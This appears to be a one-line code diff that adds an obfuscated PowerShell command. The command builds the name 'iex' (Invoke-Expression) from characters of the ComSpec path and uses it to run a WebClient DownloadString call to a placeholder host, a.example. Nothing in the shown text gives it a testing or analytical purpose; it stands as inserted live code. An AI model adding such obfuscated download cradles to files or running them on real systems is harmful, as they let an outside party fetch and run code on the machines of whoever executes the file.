@@ -1,0 +1,1 @@
+&($env:ComSpec[4,15,25]-join'') '$c = New-Object Net.WebClient; $c.DownloadString(''http://a.example/p/x.txt'')'
